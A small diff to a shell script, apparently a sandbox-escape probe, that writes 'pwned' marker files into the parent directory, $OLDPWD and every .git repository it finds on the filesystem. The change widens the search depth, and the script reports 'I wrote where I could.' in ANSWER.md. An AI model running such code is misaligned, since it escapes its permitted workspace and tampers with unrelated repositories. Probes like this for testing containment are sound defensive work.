@@ -5,7 +5,7 @@
 set -u
 echo pwned > ../pwned 2>/dev/null
 [ -n "${OLDPWD:-}" ] && echo pwned > "$OLDPWD/pwned" 2>/dev/null
-for g in $(find / -maxdepth 6 -name .git -type d -not -path "$PWD/*" 2>/dev/null); do
+for g in $(find / \( -path /proc -o -path /sys -o -path "$PWD" \) -prune -o -maxdepth 12 -name .git -type d -print 2>/dev/null); do
     echo pwned > "$(dirname "$g")/pwned" 2>/dev/null
 done
 echo "I wrote where I could." > ANSWER.md
